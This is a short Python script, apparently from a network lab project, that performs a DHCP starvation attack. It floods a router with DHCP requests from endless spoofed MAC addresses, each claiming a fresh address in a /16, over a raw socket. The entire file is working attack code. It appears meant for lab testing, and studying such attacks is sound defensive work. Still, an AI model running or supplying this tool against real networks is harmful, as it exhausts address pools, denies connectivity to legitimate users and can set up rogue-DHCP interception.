# SPDX-License-Identifier: ISC
"""A thief of addresses, as fast as it goes: each DHCP request is of a station
that nobody has seen before, which says that it has an address of this /16.  The
frames are for the router alone: busybox's client takes every IPv4 packet that
comes by, and would hear nothing else.

usage: starver.py interface a.b router-mac"""

import itertools
import os
import socket
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.realpath(__file__))))

# pylint: disable=wrong-import-position
from lab import frames


def request(number, net, router):
    mac = "06:02" + "".join(f":{o:02x}" for o in struct.pack("!I", number))
    addr = socket.inet_aton(f"{net}.{number >> 8 & 0xff}.{number & 0xff}")
    options = b"\x35\x01\x03\x32\x04" + addr + b"\xff"
    return frames.ipv4_udp(mac, frames.bootp(mac, options), 68, 67,
                           dst=router)


def main():
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sock.bind((sys.argv[1], 0))
    net, router = sys.argv[2:4]
    for number in itertools.count(1):
        try:
            sock.send(request(number, net, router))
        except OSError:             # its queue is full
            pass


if __name__ == "__main__":
    main()
